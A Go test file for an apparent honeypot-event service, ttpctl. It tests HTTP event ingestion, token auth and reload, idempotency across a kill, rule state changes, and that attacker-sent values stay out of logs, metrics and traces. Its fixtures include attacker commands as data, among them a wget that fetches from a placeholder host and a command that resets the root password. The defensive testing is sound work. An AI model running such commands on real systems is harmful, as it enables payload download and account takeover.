package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
)

// The tokens of the tests.
const (
	sensorToken = "sensor-0123456789abcdef"
	adminToken  = "admins-0123456789abcdef"
)

// A listener is a serve with --listen, and its address.
type listener struct {
	*servant
	url string
}

// startListening runs serve with --listen over the files in dir.
func startListening(t *testing.T, dir string, args ...string) *listener {
	t.Helper()
	g := startServe(t, append([]string{"--db", filepath.Join(dir, "t.db"), "--listen", "127.0.0.1:0", "--listen-tokens-file", filepath.Join(dir, "tokens")}, args...)...)
	address := regexp.MustCompile(`msg=listening address=(\S+)`)
	var m []string
	poll(t, "serve to listen", func() bool { m = address.FindStringSubmatch(g.stderr.String()); return m != nil })
	return &listener{g, "http://" + m[1]}
}

// ask sends a request and returns the status and the body of the answer.
func (l *listener) ask(method, path, token, body string, headers ...string) (status int, answer string) {
	l.t.Helper()
	r, err := http.NewRequest(method, l.url+path, strings.NewReader(body))
	if err != nil {
		l.t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+token)
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		l.t.Fatal(err)
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err != nil {
		l.t.Fatal(err)
	}
	return resp.StatusCode, string(text)
}

// want asks and checks the answer.
func (l *listener) want(status int, answer, method, path, token, body string, headers ...string) {
	l.t.Helper()
	if got, text := l.ask(method, path, token, body, headers...); got != status || !strings.Contains(text, answer) {
		l.t.Errorf("%s %s = %d %s, want %d and %q", method, path, got, text, status, answer)
	}
}

// Events that come over HTTP are tagged, stored and counted; a state that is set
// there holds; a kill loses nothing that was answered and doubles nothing; a
// token is changed without a restart.
func TestServeListen(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	tokens := func(text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, "tokens"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	tokens("ingest " + sensorToken + "\nadmin " + adminToken + " ana\n")
	event := func(id string) string {
		return `{"source_kind":"command","source_id":"` + id + `","attacker_ip":"203.0.113.9","payload":{"command_text":"wget http://192.0.2.7/x"}}`
	}
	l := startListening(t, dir)
	l.want(200, `{"accepted":1,"rejected":[],"tags_new":1}`, "POST", "/v1/events", sensorToken, event("e1"), "Idempotency-Key", "k1")
	l.want(200, `"ready":true`, "GET", "/readyz", "", "")
	l.want(200, `ttpctl_tags_total{rule_id="R0012",technique_id="T1105"} 1`, "GET", "/metrics", "", "")
	l.want(200, `"source_id":"e1"`, "GET", "/v1/tags", adminToken, "")
	l.want(200, `"set_by":"ana"`, "PUT", "/v1/rules/R0012/state", adminToken, `{"state":"disabled","reason":"vendor scan"}`, "If-Match", `"0"`)
	poll(t, "R0012 to be disabled", func() bool {
		_, text := l.ask("GET", "/metrics", "", "")
		return strings.Contains(text, `ttpctl_rules{state="disabled"} 1`)
	})
	l.want(200, `{"accepted":1,"rejected":[],"tags_new":0}`, "POST", "/v1/events", sensorToken, event("e2"), "Idempotency-Key", "k2")
	if err := l.cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	<-l.done
	_ = l.cmd.Wait() // it was killed

	l = startListening(t, dir)
	l.want(200, `"tags_new":1`, "POST", "/v1/events", sensorToken, event("e1"), "Idempotency-Key", "k1")
	l.want(422, "another body", "POST", "/v1/events", sensorToken, event("e3"), "Idempotency-Key", "k2")
	l.want(200, `"disabled"`, "GET", "/v1/rules/R0012/state", adminToken, "")
	tokens("admin " + adminToken + " ana\n")
	if err := l.cmd.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	poll(t, "the token of the sensors to be void", func() bool {
		status, _ := l.ask("POST", "/v1/events", sensorToken, event("e4"))
		return status == http.StatusUnauthorized
	})
	l.stop()
	if got := l.stderr.String(); strings.Contains(got, sensorToken) || strings.Contains(got, adminToken) {
		t.Errorf("the log shows a token:\n%s", got)
	}
}

// With --once what had come is judged, and nothing more is taken.
func TestServeListenOnce(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "tokens"), []byte("admin "+adminToken), 0o600); err != nil {
		t.Fatal(err)
	}
	l := startListening(t, dir)
	l.want(200, `"accepted":1`, "POST", "/v1/events", adminToken, `{"source_kind":"command","source_id":"e1","attacker_ip":"203.0.113.9","payload":{"command_text":"sudo -l"}}`)
	l.stop()
	g := startServe(t, "--db", filepath.Join(dir, "t.db"), "--listen", "127.0.0.1:0", "--once")
	<-g.done
	if err := g.cmd.Wait(); err != nil || strings.Contains(g.stderr.String(), "listening") {
		t.Errorf("serve --once: %v\n%s", err, g.stderr.String())
	}
}

// What strangers send gets neither into the log, nor into metrics, nor into
// spans.
func TestServeKeepsSecrets(t *testing.T) {
	t.Parallel()
	const canary = "canary-7f3a"
	var mu sync.Mutex
	var spans strings.Builder
	collector := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		_, _ = io.Copy(&spans, r.Body)
	}))
	defer collector.Close()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "tokens"), []byte("admin "+adminToken), 0o600); err != nil {
		t.Fatal(err)
	}
	l := startListening(t, dir, "--trace", collector.URL, "--log-level", "debug")
	event := strings.ReplaceAll(`{"source_kind":"command","source_id":"X1","attacker_uuid":"X","session_id":"X","decky_id":"X","payload":{"command_text":"wget http://X/X; echo X | passwd --stdin root"}}
{"source_kind":"auth_attempt","source_id":"X2","attacker_uuid":"X","payload":{"username":"X","password":"X"}}
{"source_kind":"odd","source_id":"X3","attacker_uuid":"X","payload":{}}
{"source_kind":"command","source_id":"X4","payload":"X"}`, "X", canary)
	l.want(200, `"accepted":3`, "POST", "/v1/events", adminToken, event, "Idempotency-Key", canary)
	l.ask("GET", "/v1/"+canary+"?"+canary+"="+canary, canary, "")
	l.ask("PUT", "/v1/rules/"+canary+"/state", adminToken, canary, "If-Match", canary)
	_, text := l.ask("GET", "/metrics", "", "")
	l.stop()
	mu.Lock()
	defer mu.Unlock()
	if !strings.Contains(spans.String(), `"ttp.rule.fire"`) || !strings.Contains(text, "ttpctl_tags_total") || !strings.Contains(l.stderr.String(), "/v1/events") {
		t.Errorf("too little was said to tell: spans %.300s\nlog %s", spans.String(), l.stderr.String())
	}
	for where, said := range map[string]string{"spans": spans.String(), "metrics": text, "log": l.stderr.String()} {
		if i := strings.Index(said, canary); i >= 0 {
			t.Errorf("what a stranger sent is in the %s: %q", where, said[max(0, i-200):min(len(said), i+100)])
		}
	}
}

// TestUnit holds the flags of the unit for systemd to those of serve.
func TestUnit(t *testing.T) {
	unit, err := os.ReadFile("../../docs/operating/ttpctl.service")
	if err != nil {
		t.Fatal(err)
	}
	serve, _, err := newRootCmd(&app{streams: testStreams(io.Discard, io.Discard, nil)}).Find([]string{"serve"})
	if err != nil {
		t.Fatal(err)
	}
	_, start, _ := strings.Cut(string(unit), "ExecStart=")
	start, _, _ = strings.Cut(start, "\nExecReload=")
	flags := regexp.MustCompile(`--([a-z-]+)`).FindAllStringSubmatch(start, -1)
	if len(flags) < 5 {
		t.Fatalf("%d flags in %q", len(flags), start)
	}
	for _, f := range flags {
		if serve.Flags().Lookup(f[1]) == nil && serve.InheritedFlags().Lookup(f[1]) == nil {
			t.Errorf("the unit names --%s, which serve does not have", f[1])
		}
	}
}
